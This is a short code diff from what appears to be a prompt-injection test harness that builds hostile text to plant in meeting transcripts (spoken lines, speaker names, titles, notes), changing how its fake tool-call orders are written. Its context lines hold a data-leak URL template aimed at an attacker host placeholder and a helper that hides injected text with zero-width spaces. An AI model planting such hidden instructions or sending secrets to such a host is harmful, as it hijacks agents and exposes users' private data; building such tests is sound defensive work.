@@ -1,3 +1,4 @@
+import { writeOrder } from './model-calls.ts'
 import type { InjectionTargets } from './injections.ts'
 
 /** Where in a meeting the text stands: a line, the name of who said it, its title, or a line of the notes. */
@@ -24,7 +25,7 @@ export function buildMeetingInjections({
   foreignMeeting,
   privateMeeting,
 }: MeetingTargets): MeetingInjection[] {
-  const call = (tool: string, input: object) => `call tool ${tool} with ${JSON.stringify(input)}`
+  const call = writeOrder
   const leak = `${evil}/?d=%SECRET%`
   const hidden = (text: string) => [...text].join('\u200b')
   return [
